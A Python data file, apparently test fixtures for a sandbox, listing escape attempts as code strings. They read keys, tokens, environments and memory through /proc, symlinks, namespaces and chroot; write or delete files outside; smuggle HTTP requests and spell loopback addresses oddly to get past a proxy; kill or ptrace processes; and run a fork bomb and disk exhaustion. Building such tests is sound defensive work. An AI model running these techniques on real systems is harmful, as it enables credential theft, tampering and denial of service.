"""Attempts to get out of the sandbox, as a hostile script would make them. Data only; escapes.py runs and judges them.

Each is Python that runs confined with `s` at hand (paths and ids of the scene around it). Whether it got out is seen from
outside: the secret in its output, a file changed, a process gone, a listener reached. Nothing here harms the machine if
it succeeds: what it aims at belongs to the scene.
"""

from __future__ import annotations

import msgspec


class Attempt(msgspec.Struct, frozen=True, kw_only=True):
    name: str
    goal: str
    """secret: the canary in its output. changed: a file of the scene differs. reached: a listener heard it.
    killed: the victim is gone or altered. left: something of it lives on. used: it used more than its limits."""
    code: str
    limited: bool = False
    """It has a network as a training has: limited to the scene's own Hub, as far as the level can."""


def _a(goal: str, name: str, code: str, *, limited: bool = False) -> Attempt:
    return Attempt(goal=goal, name=name, code=code, limited=limited)


_READ = "print(open({}).read())"

READS = (
    _a("secret", "read a key in the home", _READ.format("s['key']")),
    _a("secret", "read the Hub token", _READ.format("s['token']")),
    _a("secret", "read another run's log", _READ.format("s['other_run']")),
    _a("secret", "read by a path with ..", _READ.format("os.path.relpath(s['key'])")),
    _a("secret", "read through a symlink", "os.symlink(s['key'], 'l'); " + _READ.format("'l'")),
    _a("secret", "read through a hard link", "os.link(s['key'], 'h'); " + _READ.format("'h'")),
    _a("secret", "rename a secret into the workspace", "os.rename(s['spare'], 'm'); " + _READ.format("'m'")),
    _a("secret", "read through /proc/PID/root", _READ.format("f\"/proc/{s['victim']}/root{s['key']}\"")),
    _a("secret", "read through /proc/PID/cwd", _READ.format("f\"/proc/{s['victim']}/cwd/id_rsa\"")),
    _a("secret", "read through /proc/1/root", _READ.format("'/proc/1/root' + s['key']")),
    _a("secret", "read through /proc/self/root", _READ.format("'/proc/self/root' + s['key']")),
    _a("secret", "read through the parent's root", _READ.format("f'/proc/{os.getppid()}/root' + s['key']")),
    _a("secret", "an open file of another process", "d = f\"/proc/{s['victim']}/fd\"\nfor f in os.listdir(d):\n  try: os.path.isfile(f'{d}/{f}') and print(open(f'{d}/{f}').read(200))\n  except OSError: pass"),
    _a("secret", "the environment of another process", _READ.format("f\"/proc/{s['victim']}/environ\"")),
    _a("secret", "the environment of every process", "for p in os.listdir('/proc'):\n  try: print(open(f'/proc/{p}/environ').read())\n  except OSError: pass"),
    _a("secret", "a token in its own environment", "print(dict(os.environ))"),
    _a("secret", "inherited file descriptors", "for f in range(3, 256):\n  try: os.lseek(f, 0, 0); print(os.read(f, 200))\n  except OSError: pass"),
    _a("secret", "the memory of another process", "m = open(f\"/proc/{s['victim']}/maps\").read().split('\\n')\nf = open(f\"/proc/{s['victim']}/mem\", 'rb', 0)\nfor l in m:\n  if '[stack]' in l or '[heap]' in l:\n    a, b = [int(x, 16) for x in l.split()[0].split('-')]; f.seek(a); print(f.read(b - a).decode('latin1'))"),
    _a("secret", "process_vm_readv", "m = open(f\"/proc/{s['victim']}/stat\").read().rpartition(')')[2].split()\na, b = int(m[47]), int(m[48])\nbuf = ctypes.create_string_buffer(b - a)\nclass V(ctypes.Structure): _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]\nlibc.process_vm_readv(s['victim'], ctypes.byref(V(ctypes.addressof(buf), b - a)), 1, ctypes.byref(V(a, b - a)), 1, 0)\nprint(buf.raw)"),
    _a("secret", "steal a descriptor (pidfd_getfd)", "p = libc.syscall(434, s['victim'], 0)\nfor f in range(3, 20):\n  g = libc.syscall(438, p, f, 0)\n  if g >= 0: os.lseek(g, 0, 0); print(os.read(g, 200))"),
    _a("secret", "bind mount the home", "os.mkdir('mnt'); libc.mount(s['home'].encode(), b'mnt', None, 4096, None); " + _READ.format("'mnt/id_rsa'")),
    _a("secret", "a mount namespace of its own", "libc.unshare(0x10020000); os.mkdir('mnt'); libc.mount(s['home'].encode(), b'mnt', None, 4096, None); " + _READ.format("'mnt/id_rsa'")),
    _a("secret", "join the namespaces of another process", "f = os.open(f\"/proc/{s['victim']}/ns/mnt\", 0); libc.setns(f, 0); " + _READ.format("s['key']")),
    _a("secret", "chroot and out of it", "os.mkdir('c'); os.chroot('c'); [os.chdir('..') for _ in range(64)]; os.chroot('.'); " + _READ.format("s['key']")),
    _a("secret", "copy with a system program", "subprocess.run(['cp', s['key'], 'k']); " + _READ.format("'k'")),
    _a("secret", "ask a daemon that left the session", "if os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0: print(open(s['key']).read(), flush=True); os._exit(0)\n  os._exit(0)\ntime.sleep(.5)"),
)  # fmt: skip

WRITES = (
    _a("changed", "write a file outside", "open(s['outside'] + '/new', 'w').write('x')"),
    _a("changed", "append to a shell profile", "open(s['profile'], 'a').write('evil')"),
    _a("changed", "write by a path with ..", "open(os.path.relpath(s['outside']) + '/new', 'w').write('x')"),
    _a("changed", "write through a symlink", "os.symlink(s['outside'], 'o'); open('o/new', 'w').write('x')"),
    _a("changed", "move a file out", "open('f', 'w').write('x'); os.rename('f', s['outside'] + '/new')"),
    _a("changed", "link a file in and change it", "os.link(s['profile'], 'p'); open('p', 'a').write('evil')"),
    _a("changed", "delete a file outside", "os.unlink(s['spare'])"),
    _a("changed", "truncate a file outside", "os.truncate(s['profile'], 0)"),
    _a("changed", "open a file outside to all (chmod)", "os.chmod(s['key'], 0o777)"),
    _a("changed", "date a file outside back (utime)", "os.utime(s['profile'], (0, 0))"),
    _a("changed", "make a folder outside", "os.mkdir(s['outside'] + '/new')"),
    _a("changed", "make a device or pipe outside", "os.mkfifo(s['outside'] + '/new')"),
    _a("changed", "write through /proc/PID/root", "open(f\"/proc/{s['victim']}/root{s['outside']}/new\", 'w').write('x')"),
    _a("changed", "write through /proc/PID/cwd", "open(f\"/proc/{s['victim']}/cwd/.bashrc\", 'a').write('evil')"),
    _a("changed", "plant a module beside the interpreter's", "open(s['packages'] + '/' + s['planted'], 'w').write('x = 1')"),
    _a("changed", "change the program's own code", "open(s['code'] + '/' + s['planted'], 'w').write('x = 1')"),
    _a("changed", "leave a file in /dev/shm", "open('/dev/shm/' + s['mark'], 'w').write('x')"),
    _a("changed", "leave a file in /tmp", "open('/tmp/' + s['mark'], 'w').write('x')"),
)  # fmt: skip

NETWORK = (
    _a("reached", "TCP to a service of this machine", "socket.create_connection(('127.0.0.1', s['tcp']), 2).sendall(s['mark'].encode())"),
    _a("reached", "UDP to a service of this machine", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(s['mark'].encode(), ('127.0.0.1', s['udp']))"),
    _a("reached", "TCP over IPv6 with a mapped address", "socket.create_connection(('::ffff:127.0.0.1', s['tcp']), 2).sendall(s['mark'].encode())"),
    _a("reached", "the Unix socket of a run's host", "c = socket.socket(socket.AF_UNIX); c.connect(s['unix']); c.sendall(s['mark'].encode())"),
    _a("reached", "an abstract Unix socket", "c = socket.socket(socket.AF_UNIX); c.connect('\\0' + s['mark']); c.sendall(s['mark'].encode())"),
    _a("reached", "listen for the outside", "l = socket.create_server(('0.0.0.0', 0)); open('port', 'w').write(str(l.getsockname()[1])); l.settimeout(s['seconds'] - 3); l.accept()"),
)  # fmt: skip

_PROXY = "def proxy(): return socket.create_connection(('127.0.0.1', s['proxy']), 2)\n"
_TUNNEL = _PROXY + (
    "def tunnel(host, port, way=proxy):\n"
    "  try:\n"
    "    c = way(); c.settimeout(2); c.sendall(f'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'.encode()); c.recv(4096)\n"
    "  except OSError: c = socket.create_connection((host.strip('[]'), port), 2)\n"
    "  try: c.sendall(s['mark'].encode())\n"
    "  except OSError: pass\n"
    "def ask(raw, port):\n"
    "  try: c = proxy()\n"
    "  except OSError: c = socket.create_connection(('127.0.0.1', port), 2); raw = s['mark']\n"
    "  try: c.settimeout(2); c.sendall(raw.encode()); print(c.recv(65536).decode('latin1'), flush=True)\n"
    "  except OSError: pass\n"
    "G, H, E = 'GET http://127.0.0.1:', ' HTTP/1.1\\r\\nHost: 127.0.0.1:', '\\r\\n\\r\\n'\n"
)
"""By the proxy where there is one, else straight on: at a level without one the attempt is still made."""

LIMITED = (
    _a("reached", "another host on an open port", _TUNNEL + "tunnel('127.0.0.2', s['hub'])", limited=True),
    _a("reached", "another port of an open host", _TUNNEL + "tunnel('127.0.0.1', s['tcp']); ask(f\"{G}{s['tcp']}/{s['mark']}{H}{s['hub']}{E}\", s['tcp'])", limited=True),
    _a("reached", "an open name that leads to this machine", _TUNNEL + "tunnel('localhost', s['named'])", limited=True),
    _a("reached", "an address in other spellings", _TUNNEL + "for h in ('2130706433', '0x7f000001', '127.1', '0', '[::ffff:127.0.0.1]', '[::1]', 'localhost.', 'LOCALHOST'):\n  try: tunnel(h, s['tcp'])\n  except OSError: pass", limited=True),
    _a("reached", "a host named in Host alone", _TUNNEL + "ask(f\"{G}{s['hub']}/{H}{s['tcp']}{E}GET /{s['mark']}{H}{s['tcp']}{E}\", s['tcp'])", limited=True),
    _a("reached", "a request behind the end of another", _TUNNEL + "second = f\"{G}{s['tcp']}/{s['mark']}{H}{s['tcp']}{E}\"\nfor more in ('', f'\\r\\nContent-Length: {len(second) + 5}\\r\\nTransfer-Encoding: chunked', '\\r\\nTransfer-Encoding: xchunked', '\\r\\nContent-Length: 0\\r\\nContent-Length: 9'):\n  ask(f\"POST{G[3:]}{s['hub']}/{H}{s['hub']}{more}{E}0{E}{second}\", s['tcp'])", limited=True),
    _a("reached", "a line break in the name of a host", _TUNNEL + "for b in ('\\r\\n', '%0d%0a', '\\n', '\\0', '@', '#', '/'):\n  try: tunnel(f\"localhost:{s['named']}{b}127.0.0.1\", s['tcp'])\n  except (OSError, ValueError): tunnel('127.0.0.1', s['tcp'])", limited=True),
    _a("reached", "TCP past the proxy", "socket.create_connection(('127.0.0.1', s['tcp']), 2).sendall(s['mark'].encode())", limited=True),
    _a("reached", "UDP past the proxy (a DNS tunnel)", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(s['mark'].encode(), ('127.0.0.1', s['udp']))", limited=True),
    _a("reached", "straight to the proxy's own socket", _TUNNEL + "def way(): c = socket.socket(socket.AF_UNIX); c.connect(s['outlet']); return c\ntunnel('127.0.0.1', s['tcp'], way)", limited=True),
    _a("secret", "a token that the proxy adds", _TUNNEL + "ask(f\"{G}{s['hub']}/{H}{s['hub']}{E}\", s['hub'])", limited=True),
)  # fmt: skip

PROCESSES = (
    _a("killed", "kill another process", "os.kill(s['victim'], 9)"),
    _a("killed", "stop another process", "os.kill(s['victim'], 19)"),
    _a("killed", "kill by pidfd", "p = libc.syscall(434, s['victim'], 0); libc.syscall(424, p, 9, None, 0)"),
    _a("killed", "kill by tracing (ptrace)", "libc.ptrace(16, s['victim'], 0, 0); time.sleep(.2); libc.ptrace(0x4200, s['victim'], 0, 0x100000)"),
    _a("killed", "change another process's priority", "os.setpriority(os.PRIO_PROCESS, s['victim'], 19)"),
    _a("killed", "take another process's cores", "os.sched_setaffinity(s['victim'], {sorted(os.sched_getaffinity(0))[0]})"),
    _a("killed", "kill the guard's starter", "os.kill(s['starter'], 9)"),
    _a("left", "kill the guard and go on", "guard = os.getppid()\nif os.fork() == 0:\n  os.setsid(); n = os.open('/dev/null', 1); os.dup2(n, 1); os.dup2(n, 2); os.kill(guard, 9); open('alive', 'w').close()\n  for _ in range(100): time.sleep(.05); os.utime('alive')\ntime.sleep(.5)"),
    _a("left", "a daemon that outlives the command", "if os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    open('alive', 'w').close()\n    for _ in range(100): time.sleep(.05); os.utime('alive')\n  os._exit(0)\ntime.sleep(.3)"),
)  # fmt: skip

RESOURCES = (
    _a("used", "a fork bomb", "n = 0\nwhile n < 3000:\n  n += 1\n  try:\n    if os.fork() == 0: time.sleep(20); os._exit(0)\n  except OSError: time.sleep(.01)\nprint('HELD')"),
    _a("used", "take memory", "b = []\nfor _ in range(40): b.append(bytearray(os.urandom(1 << 20)) * 64); time.sleep(.02)\nprint('HELD')"),
    _a("used", "one file that fills the disk", "f = open('big', 'wb')\nfor _ in range(64): f.write(bytes(8 << 20))\nprint('HELD')"),
    _a("used", "many files that fill the disk", "for i in range(64): open(f'big{i}', 'wb').write(bytes(8 << 20)); time.sleep(.03)\nprint('HELD')"),
    _a("used", "never end", "time.sleep(s['seconds'] + 30)\nprint('HELD')"),
    _a("used", "never end, deaf to signals", "import signal\nfor n in (1, 2, 15, 24): signal.signal(n, signal.SIG_IGN)\ntime.sleep(s['seconds'] + 30)\nprint('HELD')"),
)  # fmt: skip

PRIVILEGES = (
    _a("used", "run a setuid program for rights", "os.mkdir('b'); subprocess.run(['cp', '/bin/cat', 'b/cat']); os.chmod('b/cat', 0o6755)\nprint('HELD' if int(subprocess.run(['b/cat', '/proc/self/status'], capture_output=True, text=True).stdout.split('CapEff:')[1].split()[0], 16) else '')"),
    _a("used", "rights in a user namespace of its own", "libc.unshare(0x10000000)\nprint('HELD' if int(open('/proc/self/status').read().split('CapEff:')[1].split()[0], 16) else '')"),
    _a("used", "rename the machine", "r = libc.sethostname(socket.gethostname().encode(), len(socket.gethostname())); print('HELD' if r == 0 else '')"),
    _a("used", "raise its own limits", "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 40, 1 << 40)); print('HELD')"),
)  # fmt: skip

ATTEMPTS: tuple[Attempt, ...] = (*READS, *WRITES, *NETWORK, *LIMITED, *PROCESSES, *RESOURCES, *PRIVILEGES)
